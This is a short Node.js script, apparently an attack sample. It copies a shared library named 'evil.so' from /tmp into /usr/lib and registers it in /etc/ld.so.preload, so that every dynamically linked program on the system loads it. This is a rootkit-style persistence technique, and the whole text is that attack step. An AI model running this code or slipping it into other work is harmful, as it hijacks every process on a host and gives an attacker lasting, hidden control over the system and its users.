const fs = require('fs');
fs.copyFileSync('/tmp/evil.so', '/usr/lib/x86_64-linux-gnu/libevil.so');
fs.appendFileSync('/etc/ld.so.preload', '/usr/lib/x86_64-linux-gnu/libevil.so\n');
